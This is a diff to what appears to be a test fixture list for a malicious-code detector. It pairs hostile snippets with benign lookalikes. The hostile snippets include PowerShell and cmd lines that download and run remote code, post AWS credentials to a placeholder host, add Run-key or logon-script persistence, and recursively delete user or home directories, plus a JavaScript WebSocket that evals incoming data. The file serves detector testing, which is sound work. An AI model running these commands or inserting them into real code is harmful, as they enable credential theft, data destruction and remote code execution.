@@ -320,6 +320,40 @@ PAIRS = [
     ("a.js", "const { exec } = require('child_process');\nexec('abcd')", "const exec = bound(/b/.exec);\nexec('abcd')"),
     ("b.lua", "load(string.unpack('s', x))", "fs.execute(lua, unpack(args))"),
     ("c.lua", "f = ('xxecute'):gsub('xx', 'ex')", "f = url:gsub('^https://', 'http://')"),
+    ("d.ps1", "$s = irm https://x.invalid/a; & ([scriptblock]::Create($s))", "$s = irm https://x.invalid/a; Write-Host $s"),
+    ("e.ps1", "Add-Type -TypeDefinition (irm https://x.invalid/a.cs)", "Add-Type -TypeDefinition (Get-Content a.cs)"),
+    (
+        "f.ps1",
+        "Get-Content $HOME\\.aws\\credentials | % { irm -Method Post https://x.invalid -Body $_ }",
+        "Get-Content $HOME\\names.txt | % { irm -Method Post https://x.invalid -Body $_ }",
+    ),
+    ("g.ps1", "iex (Get-Content -Raw model.bin)", "Import-Module (Join-Path $PSScriptRoot a.psm1)"),
+    ("h.ps1", "Install-Module a -Repository https://x.invalid/ps", "Install-Module Pester -Scope CurrentUser"),
+    (
+        "i.ps1",
+        "Set-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name a -Value b",
+        "Set-ItemProperty HKCU:\\Software\\A -Name a -Value b",
+    ),
+    ("a.cmd", "reg add HKCU\\Environment /v UserInitMprLogonScript /d a.bat", "reg add HKCU\\Environment /v EDITOR /d vim"),
+    ("b.cmd", "\\\\x.invalid\\s\\a.exe", "copy a.exe \\\\x.invalid\\s\\a.exe"),
+    ("c.cmd", "pushd \\\\x.invalid\\s & a.bat", "pushd build & a.bat"),
+    ("d.cmd", "rd /s /q C:\\Users", "rd /s /q C:\\Users\\me\\AppData\\Local\\Temp\\build"),
+    (
+        "e.cmd",
+        'cmd /V:ON /C "set c=curl&& !c! https://x.invalid/a.exe -o a.exe&&a.exe"',
+        'cmd /V:ON /C "set c=build&& echo !c!"',
+    ),
+    ("i.js", "importScripts('https://x.invalid/a.js')", "importScripts('./a.js')"),
+    (
+        "j.js",
+        "require('fs').rmSync(require('os').homedir(), { recursive: true })",
+        "require('fs').rmSync(require('os').tmpdir() + '/build', { recursive: true })",
+    ),
+    (
+        "k.js",
+        "new WebSocket('wss://x.invalid').onmessage = e => eval(e.data)",
+        "new WebSocket('wss://x.invalid').onmessage = e => show(e.data)",
+    ),
     (".user.ini", "auto_prepend_file = logo.png", "auto_prepend_file ="),
 ]
 
